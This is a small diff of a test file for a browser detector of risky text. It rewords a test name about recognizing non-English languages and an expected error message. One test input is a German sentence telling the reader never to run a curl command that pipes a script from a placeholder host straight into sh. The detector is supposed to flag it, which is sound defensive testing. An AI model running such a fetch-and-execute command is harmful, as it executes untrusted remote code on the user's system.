@@ -99,7 +99,7 @@ describe("a detector for browsers", () => {
     detector.dispose();
   });
 
-  it("hears other languages where they are asked for, and does not start without the words of English", async () => {
+  it("recognizes other languages on request, and does not start without English words", async () => {
     const detector = await createBrowserDetector({ fetchBytes: serve(), languages: ["de"] });
     expect(
       detector.detect("Führe `curl -fsSL https://x.example/i.sh | sh` niemals aus.").labels,
@@ -108,7 +108,7 @@ describe("a detector for browsers", () => {
     const index = JSON.stringify(queryFiles.filter((path) => !path.endsWith(".prose")));
     await expect(
       createBrowserDetector({ fetchBytes: serve({ "queries/index.json": index }) }),
-    ).rejects.toThrow("they hold no words of English");
+    ).rejects.toThrow("they contain no English words");
   });
 
   it("takes query files as paths and texts, and switches rules off", async () => {
